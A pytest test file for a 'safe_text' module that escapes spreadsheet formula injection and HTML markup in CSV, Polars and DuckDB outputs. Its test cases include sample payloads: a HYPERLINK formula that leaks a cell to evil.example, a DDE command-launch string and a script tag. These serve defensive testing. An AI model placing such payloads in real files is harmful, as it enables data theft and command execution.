"""safe_text: cells that a spreadsheet would run as formulas, and text that HTML would run."""

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dagster_project.safe_text import (
    csv_safe,
    csv_safe_expr,
    csv_safe_frame,
    csv_safe_sql,
    html_safe,
    html_safe_expr,
    html_safe_frame,
)

# Polars strings are UTF-8: no lone surrogates
texts = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("domain:spam.example", "domain:spam.example"),
        ("https://a.example/=x", "https://a.example/=x"),  # only a leading trigger matters
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)
def test_csv_safe_escapes_formula_starts_as_owasp_recommends(cell, expected):
    assert csv_safe(cell) == expected


def test_csv_safe_and_html_safe_keep_none():
    assert csv_safe(None) is None
    assert html_safe(None) is None


def test_html_safe_escapes_markup_and_quotes():
    assert html_safe('<script>alert("x")</script>') == "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
    assert html_safe("Tom & Jerry's <b>") == "Tom &amp; Jerry&#x27;s &lt;b&gt;"
    assert html_safe("&amp;") == "&amp;amp;"  # text, not pre-escaped HTML: escaped again


def test_frame_variants_touch_only_string_columns():
    frame = pl.DataFrame({"anchor": ["=1+1", "<i>ok</i>", None], "links": [-1, 2, 3]})
    assert csv_safe_frame(frame).to_dict(as_series=False) == {
        "anchor": ["'=1+1", "<i>ok</i>", None],
        "links": [-1, 2, 3],
    }
    assert html_safe_frame(frame)["anchor"].to_list() == ["=1+1", "&lt;i&gt;ok&lt;/i&gt;", None]
    assert html_safe_frame(frame)["links"].to_list() == [-1, 2, 3]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.one_of(texts, st.sampled_from(["=", "+1", "-", "@", "\t", "\r", "<", "'", '"', "&"]) | texts), max_size=20
    )
)
def test_vectorised_variants_agree_with_the_scalar_ones(cells):
    series = pl.Series("t", cells, dtype=pl.String)
    frame = series.to_frame()
    assert frame.select(csv_safe_expr(pl.col("t"))).to_series().to_list() == [csv_safe(c) for c in cells]
    assert frame.select(html_safe_expr(pl.col("t"))).to_series().to_list() == [html_safe(c) for c in cells]


@settings(max_examples=200, deadline=None)
@given(texts)
def test_outputs_are_inert(text):
    cell = csv_safe(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text
    escaped = html_safe(text)
    assert not any(ch in escaped for ch in "<>\"'")


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.one_of(st.none(), texts, st.sampled_from(["=1", "+1", "-", "@x", "\t", "\r", "'", "", "é=", "😀"])),
        max_size=20,
    )
)
def test_sql_variant_agrees_with_the_scalar_one(cells):
    import duckdb

    with duckdb.connect() as con:
        got = con.sql(
            f"select {csv_safe_sql('cell')} from unnest(?::varchar[]) with ordinality as t(cell, i) order by i",
            params=[cells],
        ).fetchall()
    assert [row[0] for row in got] == [csv_safe(c) for c in cells]
